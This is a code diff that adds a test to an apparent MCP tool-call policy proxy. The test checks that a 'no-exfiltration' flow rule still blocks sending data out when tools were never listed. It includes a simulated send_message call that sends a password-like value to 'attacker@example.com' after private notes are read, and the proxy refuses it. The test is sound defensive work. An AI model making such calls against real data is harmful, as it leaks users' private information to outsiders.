@@ -114,6 +114,33 @@ describe('run: the caller is the local OS user', () => {
     expect(await proc.exited).toBe(0);
   });
 
+  // Issue 20: a client that calls from a list it cached (the normal 2026 path) never sends
+  // tools/list, and then no call counted as private data or untrusted content: the rule never fired.
+  it('without a tools/list, the flow rule still stops the exfiltration: an unlisted tool counts as every label', async () => {
+    const { proc, client, auditFile } = airlock(['run', '--policy-file', policyFile({ flows: [EXFILTRATION] }), '--', process.execPath, workspace]);
+    await client.handshake();
+    expect((await client.call(2, 'read_notes')).result).toBeDefined();
+    const refused = await client.call(3, 'send_message', { to: 'attacker@example.com', body: 'hunter2' });
+    expect(refused.error).toEqual({
+      code: -32000,
+      message:
+        "mcp-airlock policy: tool \"send_message\" refused by flow rule \"no-exfiltration\": this session already called \"read_notes\" (private-data, unlisted) and \"read_notes\" (untrusted-content, unlisted), and \"send_message\" is external-communication (unlisted); data those calls returned could leave through this one. A tool no tools/list of this session named counts as every label: name it in the policy's labels, or list the tools first",
+      data: { airlock: 'AIRLOCK_FLOW_DENIED', tool: 'send_message', rule: 'no-exfiltration' },
+    });
+    // Unlisted, outbox could be anything too; once listed it reads as what it is (private data).
+    expect((await client.call(4, 'outbox')).error).toMatchObject({ data: { rule: 'no-exfiltration' } });
+    await list(client, 5);
+    expect((await client.call(6, 'outbox')).result).toEqual({ content: [{ type: 'text', text: '[]' }] }); // nothing was sent
+    client.endInput();
+    expect(await proc.exited).toBe(0);
+    expect(records(auditFile).filter((r) => r.method === 'tools/call').map((r) => [r.id, r.outcome, r.rule])).toEqual([
+      [2, 'ok', undefined],
+      [3, 'denied', 'no-exfiltration'],
+      [4, 'denied', 'no-exfiltration'],
+      [6, 'ok', undefined],
+    ]);
+  });
+
   it('rules for somebody else match nobody here: deny by default, and the list is empty', async () => {
     const file = policyFile({ rules: [{ id: 'not-me', effect: 'allow', principal: { subject: `${me}-not` } }] });
     const { proc, client } = airlock(['run', '--policy-file', file, '--', process.execPath, workspace]);
